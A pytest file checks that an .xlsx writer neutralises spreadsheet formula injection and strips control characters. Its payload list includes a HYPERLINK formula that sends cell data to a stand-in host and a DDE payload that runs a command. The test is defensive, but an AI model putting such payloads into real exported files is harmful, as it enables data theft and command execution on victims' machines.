"""The one .xlsx writer: text is always a text cell, formula starts are neutralised (OWASP),
control characters of old rows do not break the file."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from silvercare.common.spreadsheets import Sheet, safe_text, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_written_as_quoted_text(payload: str) -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("s", [["header"], [payload]])])))
    cell = book.worksheets[0]["A2"]
    assert cell.data_type == "s"  # a string cell, never a formula ("f")
    assert cell.value == ("'" + payload).replace("\r", "\n")  # XML reads CR back as LF
    assert safe_text(payload) == "'" + payload


def test_plain_values_keep_their_type_and_control_characters_are_dropped() -> None:
    rows = [["王秀英", 81, 1.5, dt.date(1945, 3, 8), None, "园岭\x00街道\x1b1栋\x7f", "a\tb\nc"]]
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("s", rows)])))
    values = next(book.worksheets[0].iter_rows(values_only=True))
    assert values[0] == "王秀英"
    assert values[1] == 81 and values[2] == 1.5
    assert isinstance(values[3], dt.datetime) and values[3].date() == dt.date(1945, 3, 8)
    assert values[4] is None
    assert values[5] == "园岭街道1栋"
    assert values[6] == "a\tb\nc"  # tab and line feed inside text are kept
